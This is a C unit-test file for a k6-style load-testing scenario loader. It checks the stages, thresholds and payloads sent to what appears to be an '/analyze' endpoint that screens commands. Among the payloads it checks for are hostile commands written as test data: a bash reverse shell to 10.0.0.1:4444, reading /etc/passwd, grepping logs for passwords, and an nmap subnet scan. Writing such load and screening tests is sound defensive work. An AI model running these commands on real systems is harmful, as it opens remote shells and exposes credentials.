/* The four shipped scenarios match the definitions; the loader
 * validates, and -u/-d override as k6 does. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "load/scenario.h"
#include "load/util.h"

#define S(x) ((uint64_t)((x) * 1e9))

static pl_scenario *load_shipped(const char *name)
{
    const char *src = getenv("PX_SRC_DIR");
    cr_assert_not_null(src, "PX_SRC_DIR not set (run through make test)");
    char path[1024], err[512];
    snprintf(path, sizeof(path), "%s/loadtest/scenarios/%s.json", src, name);
    pl_scenario *s = pl_scenario_load(path, err, sizeof(err));
    cr_assert_not_null(s, "%s", err);
    return s;
}

static const pl_threshold *find_threshold(const pl_scenario *s, const char *metric, const char *expr)
{
    for (int i = 0; i < s->nthresholds; i++)
        if (strcmp(s->thresholds[i].key, metric) == 0)
            for (int j = 0; j < s->thresholds[i].n; j++)
                if (strcmp(s->thresholds[i].items[j].source, expr) == 0)
                    return &s->thresholds[i].items[j];
    return NULL;
}

static const pl_payload *payload_with(const pl_scenario *s, const char *needle)
{
    for (int i = 0; i < s->npayloads; i++)
        if (strstr(s->payloads[i].body, needle) != NULL)
            return &s->payloads[i];
    return NULL;
}

static void expect_stages(const pl_scenario *s, const double (*st)[2], int n)
{
    cr_assert_eq(s->nstages, n);
    for (int i = 0; i < n; i++) {
        cr_expect_eq(s->stages[i].duration_ns, S(st[i][0]), "stage %d duration", i);
        cr_expect_float_eq(s->stages[i].target, st[i][1], 1e-9, "stage %d target", i);
    }
}

static void expect_common(const pl_scenario *s)
{
    cr_expect_str_eq(s->method, "POST");
    cr_expect_str_eq(s->path_tpl, "/analyze");
    cr_expect_str_eq(s->health_path, "/health");
    cr_expect(pl_scenario_expected(s, 200) && pl_scenario_expected(s, 403) && !pl_scenario_expected(s, 500));
    /* Per-VU user and session ids, as in the original scripts. */
    for (int i = 0; i < s->npayloads; i++) {
        cr_expect(strstr(s->payloads[i].body, "\"user_id\":\"") != NULL);
        cr_expect(strstr(s->payloads[i].body, "${__VU}\",\"session_id\"") != NULL, "%s", s->payloads[i].body);
        cr_expect(s->payloads[i].body_json);
    }
}

Test(scenario, baseline)
{
    pl_scenario *s = load_shipped("baseline");
    cr_expect_eq(s->executor, PL_EXEC_CONSTANT_VUS);
    cr_expect_eq(s->vus, 10);
    cr_expect_eq(s->duration_ns, S(300));
    cr_expect_float_eq(s->sleep_s, 0.1, 1e-12);
    expect_common(s);
    cr_assert_eq(s->npayloads, 3);
    const char *cmds[] = {"ls -la /home/user/projects", "cat /etc/passwd", "nmap -sV 192.168.1.0/24"};
    for (int i = 0; i < 3; i++) {
        const pl_payload *p = payload_with(s, cmds[i]);
        cr_assert_not_null(p, "%s", cmds[i]);
        cr_expect_float_eq(p->weight, 1, 1e-12);
    }
    cr_expect_not_null(find_threshold(s, "http_req_duration", "p(95)<50"));
    cr_expect_not_null(find_threshold(s, "http_req_duration", "p(99)<100"));
    cr_expect_not_null(find_threshold(s, "errors", "rate<0.01"));
    cr_expect_not_null(find_threshold(s, "http_req_failed", "rate<0.01"));
    pl_scenario_destroy(s);
}

Test(scenario, stress)
{
    pl_scenario *s = load_shipped("stress");
    cr_expect_eq(s->executor, PL_EXEC_RAMPING_VUS);
    static const double st[][2] = {{120, 50}, {180, 100}, {180, 200}, {180, 300}, {120, 500}, {120, 0}};
    expect_stages(s, st, 6);
    cr_expect_float_eq(s->sleep_s, 0.01, 1e-12);
    expect_common(s);
    cr_assert_eq(s->npayloads, 3);
    cr_expect_float_eq(payload_with(s, "\"ls -la\"")->weight, 60, 1e-12);
    cr_expect_float_eq(payload_with(s, "grep -r \\\"password\\\" /var/log/")->weight, 25, 1e-12);
    cr_expect_float_eq(payload_with(s, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")->weight, 15, 1e-12);
    cr_expect_not_null(find_threshold(s, "http_req_duration", "p(95)<100"));
    cr_expect_not_null(find_threshold(s, "errors", "rate<0.05"));
    int has500 = 0;
    for (int i = 0; i < s->nchecks; i++)
        if (s->checks[i].max_duration_ms == 500)
            has500 = 1;
    cr_expect(has500, "stress checks responses arrive in under 500 ms");
    cr_expect_eq(pl_scenario_max_vus(s), 500);
    pl_scenario_destroy(s);
}

Test(scenario, spike)
{
    pl_scenario *s = load_shipped("spike");
    cr_expect_eq(s->executor, PL_EXEC_RAMPING_VUS);
    cr_expect_eq(s->start_vus, 10);
    static const double st[][2] = {{60, 10}, {10, 200}, {120, 200}, {10, 10}, {120, 10}, {10, 200}, {120, 200}, {10, 0}};
    expect_stages(s, st, 8);
    cr_expect_float_eq(s->sleep_s, 0, 1e-12);
    expect_common(s);
    cr_expect_not_null(find_threshold(s, "http_req_duration", "p(95)<200"));
    cr_expect_not_null(find_threshold(s, "errors", "rate<0.1"));
    cr_expect(s->recovery);
    cr_expect_eq(s->recovery_within_ns, S(30));
    cr_expect_not_null(find_threshold(s, "spike_recovery_time", "max<=30000"));
    pl_scenario_destroy(s);
}

Test(scenario, soak)
{
    pl_scenario *s = load_shipped("soak");
    static const double st[][2] = {{300, 50}, {3000, 50}, {300, 0}};
    expect_stages(s, st, 3);
    cr_expect_float_eq(s->sleep_s, 0.1, 1e-12);
    expect_common(s);
    cr_expect(s->rotate, "soak rotates its payloads");
    cr_assert_eq(s->npayloads, 4);
    cr_expect_not_null(payload_with(s, "\"Filesystem\":{\"operation\":\"Read\""));
    cr_expect_not_null(payload_with(s, "\"command\":\"git status\""));
    cr_expect_not_null(payload_with(s, "\"Network\":{\"method\":\"GET\""));
    cr_expect_not_null(payload_with(s, "\"Database\":{\"query\":\"SELECT"));
    cr_expect_not_null(find_threshold(s, "http_req_duration", "p(95)<50"));
    cr_expect_not_null(find_threshold(s, "http_req_duration", "p(99)<100"));
    cr_expect_not_null(find_threshold(s, "errors", "rate<0.001"));
    cr_expect(s->monitor_rss);
    pl_scenario_destroy(s);
}

Test(scenario, overrides_like_k6)
{
    pl_scenario *s = load_shipped("spike");
    pl_scenario_override(s, -1, S(10));
    cr_expect_eq(s->executor, PL_EXEC_CONSTANT_VUS, "-d turns stages into constant-vus");
    cr_expect_eq(s->duration_ns, S(10));
    cr_expect_eq(s->vus, 1, "no vus in the scenario: k6's default of 1");
    cr_expect_eq(s->nstages, 0);
    cr_expect(!s->recovery);
    pl_scenario_destroy(s);

    s = load_shipped("baseline");
    pl_scenario_override(s, -1, S(10));
    cr_expect_eq(s->vus, 10, "-d alone keeps the scenario's vus");
    pl_scenario_override(s, 3, 0);
    cr_expect_eq(s->vus, 3);
    cr_expect_eq(s->duration_ns, S(10));
    pl_scenario_destroy(s);

    s = load_shipped("stress");
    pl_scenario_override(s, 20, 0);
    cr_expect_eq(s->vus, 20);
    cr_expect_eq(s->duration_ns, S(900), "-u alone keeps the total stage time");
    pl_scenario_destroy(s);
}

static void expect_invalid(const char *json, const char *needle)
{
    char err[512] = "";
    pl_scenario *s = pl_scenario_parse(json, strlen(json), "t.json", err, sizeof(err));
    cr_expect_null(s, "accepted: %s", json);
    cr_expect(strstr(err, needle) != NULL, "error '%s' lacks '%s'", err, needle);
    pl_scenario_destroy(s);
}

Test(scenario, rejects_mistakes_before_running)
{
    expect_invalid("{\"executor\":\"constant-vus\",\"vus\":1}", "needs a duration");
    expect_invalid("{\"executor\":\"warp\",\"duration\":\"1s\"}", "executor");
    expect_invalid("{\"duration\":\"1s\",\"thresholds\":{\"http_req_durations\":[\"p(95)<1\"]}}", "unknown metric");
    expect_invalid("{\"duration\":\"1s\",\"thresholds\":{\"http_req_failed\":[\"p(95)<1\"]}}", "does not apply");
    expect_invalid("{\"duration\":\"1s\",\"thresholds\":{\"errors\":[\"rate<<1\"]}}", "operator");
    expect_invalid("{\"duration\":\"1x\"}", "duration");
    expect_invalid("{\"duration\":\"1s\",\"vu\":3}", "unknown key 'vu'");
    expect_invalid("{\"duration\":\"1s\",\"checks\":{\"a\":{\"status\":[200]}}}", "unknown condition");
    expect_invalid("{\"executor\":\"constant-arrival-rate\",\"rate\":10,\"duration\":\"1s\"}", "preAllocatedVUs");
    expect_invalid("{\"executor\":\"ramping-vus\"}", "needs stages");
    expect_invalid("{\"duration\":\"1s\",\"payloads\":[{\"weight\":0,\"body\":\"x\"}]}", "zero");
    expect_invalid("not json", "JSON");
}

Test(scenario, arrival_rate_and_object_thresholds)
{
    const char *j = "{\"executor\":\"ramping-arrival-rate\",\"startRate\":5,\"timeUnit\":\"1s\","
                    "\"preAllocatedVUs\":2,\"maxVUs\":8,\"stages\":[{\"duration\":\"10s\",\"target\":50}],"
                    "\"thresholds\":{\"http_req_failed\":[{\"threshold\":\"rate<0.1\",\"abortOnFail\":true,"
                    "\"delayAbortEval\":\"2s\"}],\"dropped_iterations\":[\"count<1\"],"
                    "\"http_req_duration{expected_response:true}\":[\"p(95)<10\"]},\"_comment\":\"ignored\"}";
    char err[512];
    pl_scenario *s = pl_scenario_parse(j, strlen(j), NULL, err, sizeof(err));
    cr_assert_not_null(s, "%s", err);
    cr_expect_eq(s->executor, PL_EXEC_RAMPING_ARRIVAL_RATE);
    cr_expect_eq(pl_scenario_max_vus(s), 8);
    cr_expect_eq(pl_scenario_duration(s), S(10));
    cr_expect_str_eq(s->method, "GET", "no payloads: GET");
    cr_assert_eq(s->nthresholds, 3);
    cr_expect(s->thresholds[0].items[0].abort_on_fail);
    cr_expect_eq(s->thresholds[0].items[0].delay_abort_ns, S(2));
    cr_expect_eq(s->thresholds[2].metric, PL_M_HTTP_REQ_DURATION_EXPECTED);
    pl_scenario_destroy(s);
}
